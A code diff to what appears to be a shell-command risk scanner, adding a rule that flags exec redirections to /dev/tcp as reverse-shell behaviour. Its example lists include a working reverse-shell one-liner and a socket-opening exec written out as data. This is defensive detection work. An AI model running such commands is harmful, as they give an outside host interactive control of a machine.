@@ -215,6 +215,18 @@ export const CODE_RULES: readonly Rule[] = [
     },
   },
   {
+    id: 'socket-open',
+    level: 'high',
+    why: 'Ties this shell to a network connection, as a reverse shell does.',
+    tools: tools('exec'),
+    when: (c) =>
+      c.redirections.filter((r) => r.operator === '<>' && SOCKET.test(r.target.text)).map((r) => r.target),
+    examples: {
+      risky: ['exec 5<>/dev/tcp/10.0.0.1/80', '0<&196;exec 196<>/dev/tcp/h/1; sh <&196 >&196'],
+      harmless: ['exec 5<>file', 'exec > log.txt'],
+    },
+  },
+  {
     id: 'socket-redirect',
     level: 'moderate',
     why: 'Opens a network connection through a redirection.',
@@ -225,7 +237,7 @@ export const CODE_RULES: readonly Rule[] = [
         c.redirections.filter((r) => SOCKET.test(r.target.text)).map((r) => r.target),
       ),
     examples: {
-      risky: ['exec 5<>/dev/tcp/10.0.0.1/80', 'echo x > /dev/udp/h/1'],
+      risky: ['echo x > /dev/tcp/h/22', 'echo x > /dev/udp/h/1'],
       harmless: ['ls > /dev/null', 'curl h'],
     },
   },
